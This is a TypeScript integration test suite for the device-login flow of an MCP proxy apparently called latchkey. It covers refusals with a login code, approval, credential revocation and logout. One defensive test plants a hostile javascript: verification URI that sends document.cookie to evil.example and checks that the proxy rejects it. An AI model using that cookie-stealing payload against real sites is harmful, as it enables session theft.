import assert from 'node:assert/strict';
import { fileURLToPath } from 'node:url';
import { after, before, describe, it } from 'node:test';

import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { Protocol } from '@modelcontextprotocol/sdk/shared/protocol.js';
import {
  type ClientNotification,
  type ClientRequest,
  InitializeResultSchema,
  LATEST_PROTOCOL_VERSION,
  McpError,
  type ServerResult,
} from '@modelcontextprotocol/sdk/types.js';

import { approveDevice, discover } from '../harness/index.js';
import { isAlive } from '../support/process.js';
import { proxyEnv, type ProxyEnv, text } from '../support/proxy-env.js';
import { latchkey } from '../support/spawn-cli.js';
import { EventType } from '../../src/store/contract.js';

const TSX = fileURLToPath(import.meta.resolve('tsx'));
const CLI = fileURLToPath(new URL('../fixtures/latchkey-cli.ts', import.meta.url));

interface DeviceData {
  server: string;
  code: string;
  retryable: boolean;
  nextStep?: string;
  verificationUri?: string;
  verificationUriComplete?: string;
  userCode?: string;
}

function latchkeyData(error: McpError): DeviceData {
  const data = (error.data as { latchkey?: DeviceData } | undefined)?.latchkey;
  assert.ok(data !== undefined, `no data.latchkey in ${JSON.stringify(error.data)}`);
  return data;
}

function escape(text: string): RegExp {
  return new RegExp(text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'));
}

async function pause(ms: number): Promise<void> {
  await new Promise((r) => setTimeout(r, ms));
}

/**
 * An SDK Client host that, unlike Client.connect, keeps the proxy when initialize fails and
 * sends it again: the host a device login in the proxy needs (the process, and with it the
 * login, must outlive the first refusal).
 */
class PatientHost {
  readonly client = new Client({ name: 'patient-host', version: '1.0.0' });
  readonly transport: StdioClientTransport;
  readonly errors: Error[] = [];
  #stderr = '';

  constructor(args: readonly string[], env: Record<string, string>) {
    this.transport = new StdioClientTransport({
      command: process.execPath,
      args: ['--import', TSX, CLI, 'proxy', ...args],
      env: { ...(process.env as Record<string, string>), LATCHKEY_LOG_LEVEL: 'debug', ...env },
      stderr: 'pipe',
    });
    this.transport.stderr?.on('data', (chunk: Buffer) => (this.#stderr += chunk.toString()));
    this.client.onerror = (error) => this.errors.push(error);
  }

  stderr(): string {
    return this.#stderr;
  }

  /** Attach without the SDK's own handshake, which closes the transport when it fails. */
  async attach(): Promise<void> {
    await Protocol.prototype.connect.call(
      this.client as unknown as Protocol<ClientRequest, ClientNotification, ServerResult>,
      this.transport,
    );
  }

  async initialize(): Promise<void> {
    const result = await this.client.request(
      {
        method: 'initialize',
        params: {
          protocolVersion: LATEST_PROTOCOL_VERSION,
          capabilities: {},
          clientInfo: { name: 'patient-host', version: '1.0.0' },
        },
      },
      InitializeResultSchema,
    );
    assert.equal(typeof result.protocolVersion, 'string');
    await this.client.notification({ method: 'notifications/initialized' });
  }

  async close(): Promise<void> {
    await this.client.close();
  }
}

/**
 * A proxy that awaited the device login instead of answering with the code would hold the
 * request until the SDK's 60 s request timeout (nobody approves here) and answer without a
 * code. The code itself proves the answer did not wait for the user; this bound only checks
 * it came promptly. It leaves room for two node starts (proxy and login agent) on a loaded
 * 2-core CI machine, where the whole suite runs beside it (measured alone: 2.1 s).
 */
const ANSWERED_AT_ONCE_MS = 12_000;

describe('latchkey proxy --device: a headless login from inside the host', () => {
  let env: ProxyEnv;
  before(async () => {
    env = await proxyEnv({ accessTokenTtl: 300, deviceFlowInterval: 1 });
  });
  after(async () => env.close());

  it('the first request fails fast with -32040 and the code; after approval, requests go through', async () => {
    const host = new PatientHost([env.url, '--device'], env.env);
    try {
      await host.attach();
      const started = Date.now();
      const refused = await host.initialize().then(
        () => undefined,
        (error: unknown) => error,
      );
      const tookMs = Date.now() - started;
      assert.ok(refused instanceof McpError, `not an McpError: ${String(refused)}\n${host.stderr()}`);
      assert.ok(tookMs < ANSWERED_AT_ONCE_MS, `the refusal took ${tookMs} ms`);
      assert.equal(refused.code, -32040);
      const data = latchkeyData(refused);
      assert.equal(data.server, env.url);
      assert.equal(data.code, 'LOGIN_REQUIRED');
      assert.equal(data.retryable, true);
      assert.ok(data.verificationUri !== undefined && data.userCode !== undefined);
      assert.ok(data.verificationUri.startsWith(env.as.issuer), data.verificationUri);
      assert.match(data.nextStep ?? '', /approve the login/);
      assert.match(refused.message, escape(env.url));
      assert.match(refused.message, escape(data.verificationUri));
      assert.match(refused.message, escape(data.userCode));
      // The user reads the same on stderr.
      assert.match(host.stderr(), escape(data.verificationUri));
      assert.match(host.stderr(), escape(data.userCode));
      assert.match(host.stderr(), escape(`To sign in to ${env.url}`));

      // Asking again before approval: the same code, still at once, no second device flow.
      const again = await host.initialize().then(
        () => undefined,
        (error: unknown) => error,
      );
      assert.ok(again instanceof McpError);
      assert.equal(again.code, -32040);
      assert.equal(latchkeyData(again).userCode, data.userCode);
      assert.equal(env.as.counters.count('device_authorization', 'ok'), 1);

      await approveDevice(data.verificationUri, data.userCode, { subject: 'device-user' });
      const approvedAt = Date.now();
      let initialized = false;
      while (!initialized && Date.now() - approvedAt < 20_000) {
        initialized = await host.initialize().then(
          () => true,
          (error: unknown) => {
            assert.ok(error instanceof McpError && error.code === -32040, String(error));
            return false;
          },
        );
        if (!initialized) await pause(250);
      }
      assert.ok(initialized, `no session within 20 s of approval\n${host.stderr()}`);
      const result = await host.client.callTool({ name: 'echo', arguments: { text: 'after approval' } });
      assert.equal(text(result), 'after approval');
      const who = await host.client.callTool({ name: 'whoami', arguments: {} });
      assert.equal(text(who), 'device-user');
      const tools = await host.client.listTools();
      assert.deepEqual(tools.tools.map((t) => t.name).sort(), ['echo', 'whoami']);
      assert.equal(env.as.counters.count('device_code', 'ok'), 1);
      // stdout carried nothing but MCP: the SDK parsed every line.
      assert.deepEqual(host.errors, []);
    } finally {
      await host.close();
    }
  });

  it('a credential that dies mid-session: the next tools/call fails fast with the code, approval resumes', async () => {
    await env.seedLogin('first-user');
    const host = await env.host(['--device']);
    assert.equal(text(await host.client.callTool({ name: 'echo', arguments: { text: 'before' } })), 'before');
    const deviceFlows = env.as.counters.count('device_authorization', 'ok');
    await env.as.revokeAllGrants();

    const started = Date.now();
    const refused = await host.client.callTool({ name: 'echo', arguments: { text: 'refused' } }).then(
      () => undefined,
      (error: unknown) => error,
    );
    const tookMs = Date.now() - started;
    assert.ok(refused instanceof McpError, `not an McpError: ${String(refused)}\n${host.stderr()}`);
    assert.ok(tookMs < ANSWERED_AT_ONCE_MS, `the refusal took ${tookMs} ms`);
    assert.equal(refused.code, -32040);
    const data = latchkeyData(refused);
    assert.equal(data.server, env.url);
    assert.ok(data.verificationUri !== undefined && data.userCode !== undefined);
    assert.match(host.stderr(), escape(data.verificationUri));
    assert.match(host.stderr(), escape(data.userCode));
    assert.equal(env.as.counters.count('device_authorization', 'ok'), deviceFlows + 1);

    await approveDevice(data.verificationUri, data.userCode, { subject: 'second-user' });
    const approvedAt = Date.now();
    let echoed: string | undefined;
    while (echoed === undefined && Date.now() - approvedAt < 20_000) {
      echoed = await host.client.callTool({ name: 'echo', arguments: { text: 'resumed' } }).then(
        (r) => text(r),
        (error: unknown) => {
          assert.ok(error instanceof McpError && error.code === -32040, String(error));
          return undefined;
        },
      );
      if (echoed === undefined) await pause(250);
    }
    assert.equal(echoed, 'resumed', `no success within 20 s of approval\n${host.stderr()}`);
    assert.equal(text(await host.client.callTool({ name: 'whoami', arguments: {} })), 'second-user');
    // The host stayed connected throughout: stdout carried only MCP messages.
    const tools = await host.client.listTools();
    assert.deepEqual(tools.tools.map((t) => t.name).sort(), ['echo', 'whoami']);
    await host.close();
  });

  it('an SDK host (Client.connect) with no credential: connect fails fast with -32040 and the code', async () => {
    const other = await proxyEnv({ accessTokenTtl: 300 });
    try {
      const started = Date.now();
      const refused = await other.host(['--device']).then(
        () => undefined,
        (error: unknown) => error,
      );
      const tookMs = Date.now() - started;
      assert.ok(refused instanceof McpError, `not an McpError: ${String(refused)}`);
      assert.ok(tookMs < ANSWERED_AT_ONCE_MS, `the refusal took ${tookMs} ms`);
      assert.equal(refused.code, -32040);
      const data = latchkeyData(refused);
      assert.equal(data.server, other.url);
      assert.ok(data.verificationUri !== undefined && data.userCode !== undefined);
      assert.match(refused.message, escape(data.userCode));
    } finally {
      await other.close();
    }
  });

  it('an SDK host that hangs up after the refusal: the code it showed still logs in, and a new proxy shows the same code', async () => {
    const other = await proxyEnv({ accessTokenTtl: 300 });
    try {
      // Client.connect closes the transport when initialize fails: the proxy process ends
      // (stdin closed, then SIGTERM, then SIGKILL). The device login lives in its agent.
      const refused = await other.host(['--device']).then(
        () => undefined,
        (error: unknown) => error,
      );
      assert.ok(refused instanceof McpError);
      const data = latchkeyData(refused);
      assert.ok(data.verificationUri !== undefined && data.userCode !== undefined);
      // The host restarts the server before the user gets round to it: same code, no new one.
      const again = await other.host(['--device']).then(
        () => undefined,
        (error: unknown) => error,
      );
      assert.ok(again instanceof McpError);
      assert.equal(latchkeyData(again).userCode, data.userCode, 'a restarted proxy shows the pending code');
      assert.equal(other.as.counters.count('device_authorization'), 1, 'one device authorization');
      // Well after the SDK would have killed the first proxy.
      await pause(4_500);
      await approveDevice(data.verificationUri, data.userCode, { subject: 'late-user' });
      const store = await other.openStore();
      const deadline = Date.now() + 15_000;
      while ((await store.listCredentials({ server: other.url })).length === 0 && Date.now() < deadline)
        await pause(250);
      assert.equal(
        (await store.listCredentials({ server: other.url })).length,
        1,
        'the approved login was stored',
      );
      const host = await other.host(['--device']);
      assert.equal(text(await host.client.callTool({ name: 'whoami', arguments: {} })), 'late-user');
    } finally {
      await other.close();
    }
  });

  it('a hostile verification_uri (javascript:) never reaches the host: no -32040 data with it, no QR code', async () => {
    const other = await proxyEnv({ accessTokenTtl: 300, deviceFlowInterval: 1 });
    const endpoint = new URL((await discover(other.as.issuer)).device_authorization_endpoint ?? '');
    const hostile = 'javascript:fetch("//evil.example/"+document.cookie)';
    const fault = other.asProxy.inject({
      path: endpoint.pathname,
      action: {
        type: 'garbage',
        status: 200,
        body: JSON.stringify({
          device_code: 'hostile-device-code',
          user_code: 'EVIL-CODE',
          verification_uri: hostile,
          verification_uri_complete: `${hostile}?user_code=EVIL-CODE`,
          expires_in: 600,
          interval: 1,
        }),
      },
    });
    const host = new PatientHost([other.url, '--device'], other.env);
    try {
      await host.attach();
      const deadline = Date.now() + 30_000;
      let refused: unknown;
      let data: DeviceData | undefined;
      // The login agent runs in its own process: ask until its refusal (not "pending") is known.
      do {
        refused = await host.initialize().then(
          () => undefined,
          (error: unknown) => error,
        );
        assert.ok(refused instanceof McpError, `not an McpError: ${String(refused)}\n${host.stderr()}`);
        data = latchkeyData(refused);
        if (data.userCode === undefined && fault.hits > 0 && /the device login failed/.test(refused.message))
          break;
        assert.equal(data.verificationUri, undefined, 'the hostile URI was handed to the host');
        await pause(250);
      } while (Date.now() < deadline);
      assert.ok(refused instanceof McpError && data !== undefined);
      assert.ok(fault.hits >= 1, 'the AS sent the hostile device authorization');
      // The agent refused the flow (device-authorization.test.ts shows its full error); the
      // proxy learns its code from the store and says it, with how to see the rest.
      assert.match(refused.message, /the device login failed \(DISCOVERY_FAILED\)/, refused.message);
      assert.match(refused.message, /--device/);
      assert.equal(refused.code, -32040);
      assert.match(refused.message, escape(other.url));
      assert.equal(data.server, other.url);
      assert.equal(data.verificationUri, undefined);
      assert.equal(data.verificationUriComplete, undefined);
      assert.equal(data.userCode, undefined);
      const everything = JSON.stringify({ message: refused.message, data: refused.data }) + host.stderr();
      assert.ok(!everything.includes('javascript:'), 'the hostile URI is nowhere: error, data or stderr');
      assert.doesNotMatch(host.stderr(), /[▀▄█]{4}/, 'no QR code was drawn');
      assert.equal(other.as.counters.count('device_code'), 0, 'nothing was polled');
    } finally {
      await host.close();
      await other.close();
    }
  });

  it('`latchkey logout` while the code waits: the login is cancelled, and a later approval logs nobody in', async () => {
    const other = await proxyEnv({ accessTokenTtl: 300, deviceFlowInterval: 1 });
    const host = new PatientHost([other.url, '--device'], other.env);
    try {
      await host.attach();
      const refused = await host.initialize().then(
        () => undefined,
        (error: unknown) => error,
      );
      assert.ok(refused instanceof McpError, String(refused));
      const data = latchkeyData(refused);
      assert.ok(data.verificationUri !== undefined && data.userCode !== undefined);
      const store = await other.openStore();
      const prompt = (await store.readEvents({ server: other.url })).find(
        (e) => e.type === EventType.DEVICE_PROMPT,
      );
      assert.ok(prompt !== undefined, 'the agent published its prompt');

      const out = await latchkey(['logout', other.url], other.env);
      assert.equal(out.code, 0, out.stderr);
      assert.match(out.stderr, escape(`waiting for code ${data.userCode}`));
      const deadline = Date.now() + 10_000;
      while (isAlive(prompt.pid) && Date.now() < deadline) await pause(100);
      assert.equal(isAlive(prompt.pid), false, 'the device-login agent ended');

      // The user approves anyway (an old tab, a phone): nothing polls for it any more.
      await approveDevice(data.verificationUri, data.userCode, { subject: 'too-late' });
      await pause(2_500);
      assert.equal(other.as.counters.count('device_code', 'ok'), 0, 'no token was collected');
      assert.deepEqual(await store.listCredentials({ server: other.url }), []);

      // The running proxy took the logout: it tells the host so, and starts no new login.
      const after = await host.initialize().then(
        () => undefined,
        (error: unknown) => error,
      );
      assert.ok(after instanceof McpError, String(after));
      assert.equal(after.code, -32040);
      assert.match(after.message, /logged out/);
      assert.equal(other.as.counters.count('device_authorization'), 1, 'no new device login');
    } finally {
      await host.close();
      await other.close();
    }
  });
});
